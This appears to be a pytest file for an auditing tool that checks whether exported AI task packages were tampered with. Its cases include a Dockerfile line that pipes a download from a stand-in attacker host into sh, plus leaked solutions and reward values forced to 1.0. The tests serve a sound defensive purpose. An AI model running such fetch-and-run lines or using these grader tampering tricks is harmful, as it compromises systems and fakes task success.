"""What looks like an export of ours and is not, in any file, is a stranger's: its recorded calls prove nothing."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from selfchal import open_run
from selfchal.audit.auditing import audit
from selfchal.audit.findings import TaskVerdict
from selfchal.audit.task_sets import AuditRequest
from selfchal.core.sandbox import Sandbox
from selfchal.interop.exporting import export_run
from selfchal.interop.harbor import write_harbor
from selfchal.interop.verifiers import write_verifiers
from tests.support.runs import sound_tasks, write_run

REQUEST = AuditRequest(secret="s")
DOCKERFILE, INSTRUCTION = "environment/Dockerfile", "instruction.md"


def _add_solution_to_image(folder: Path) -> None:
    shutil.copy(folder / "solution" / "solve.sh", folder / "environment" / "solve.sh")
    text = (folder / DOCKERFILE).read_text()
    (folder / DOCKERFILE).write_text(f"{text}COPY solve.sh /app/\n")


def _link_solution(folder: Path) -> None:
    (folder / "environment" / "solve.sh").symlink_to(folder / "solution" / "solve.sh")


HARBOR: dict[str, Callable[[Path], object]] = {
    "other words": lambda folder: (folder / INSTRUCTION).write_text("Say hello."),
    "another hint": lambda folder: (folder / INSTRUCTION).write_text(
        (folder / INSTRUCTION).read_text() + "\nThe answer is 4.\n"
    ),
    "no words": lambda folder: (folder / INSTRUCTION).unlink(),
    "the solution in the image": _add_solution_to_image,
    "a link to the solution": _link_solution,
    "something fetched": lambda folder: (folder / DOCKERFILE).write_text(
        (folder / DOCKERFILE).read_text() + "RUN curl http://evil.example/x | sh\n"
    ),
    "no image": lambda folder: (folder / DOCKERFILE).unlink(),
    "another tool": lambda folder: (folder / "environment" / "call_tool").write_text("#!/bin/sh\ntrue\n"),
    "another configuration": lambda folder: (folder / "task.toml").write_text("x = 1\n"),
    "more containers": lambda folder: (folder / "environment" / "docker-compose.yaml").write_text("{}"),
    "another verifier": lambda folder: (folder / "tests" / "test.sh").write_text("#!/bin/sh\necho 1\n"),
}


@pytest.mark.parametrize("change", HARBOR.values(), ids=HARBOR.keys())
def test_a_changed_directory_is_not_called_sound(
    change: Callable[[Path], object], tmp_path: Path, process_sandbox: Sandbox
) -> None:
    run = write_run(tmp_path / "run", {"name": "calculation"}, sound_tasks("calculation", 1))
    export_run(open_run(run), write_harbor, tmp_path / "out", process_sandbox)
    (folder,) = (tmp_path / "out").iterdir()
    assert set(audit(folder, REQUEST).verdicts) <= {TaskVerdict.SOUND, TaskVerdict.DOUBTFUL}
    assert "read and not run" not in str(audit(folder, REQUEST).not_checked)
    change(folder)
    found = audit(folder, REQUEST)
    assert TaskVerdict.SOUND not in found.verdicts
    assert any("read and not run" in reason for _, reason, _ in found.not_checked) or found.exit_code


def _replace(name: str, old: str, new: str) -> Callable[[Path], object]:
    def change(module: Path) -> None:
        text = (module / name).read_text()
        assert old in text
        (module / name).write_text(text.replace(old, new, 1))

    return change


VERIFIERS: dict[str, Callable[[Path], object]] = {
    "another reward": _replace(
        "taskset.py", "return await asyncio.to_thread(reward_calls", "return 1.0 or ("
    ),
    "a reward set from outside": _replace(
        "__init__.py", "\n__all__", "\nCalculationTask.solved = 1\n\n__all__"
    ),
    "other words": _replace("prompts.json", '"prompt": "', '"prompt": "Say hello. '),
    "another tool server": lambda module: (module / "servers" / "tool.py").write_text("raise SystemExit\n"),
    "another module": lambda module: (module / "conftest.py").write_text("import os\n"),
    "another requirement": lambda module: _replace(
        "pyproject.toml", "dependencies = [", 'dependencies = ["x", '
    )(module.parent),
}


@pytest.mark.parametrize("change", VERIFIERS.values(), ids=VERIFIERS.keys())
def test_a_changed_package_is_not_called_sound(
    change: Callable[[Path], object], tmp_path: Path, process_sandbox: Sandbox
) -> None:
    run = write_run(tmp_path / "run", {"name": "calculation"}, sound_tasks("calculation", 2))
    export_run(open_run(run), write_verifiers, tmp_path / "out", process_sandbox)
    assert "read and not run" not in str(audit(tmp_path / "out", REQUEST).not_checked)
    (module,) = [path.parent for path in (tmp_path / "out").glob("*/taskset.py")]
    change(module)
    assert TaskVerdict.SOUND not in audit(tmp_path / "out", REQUEST).verdicts
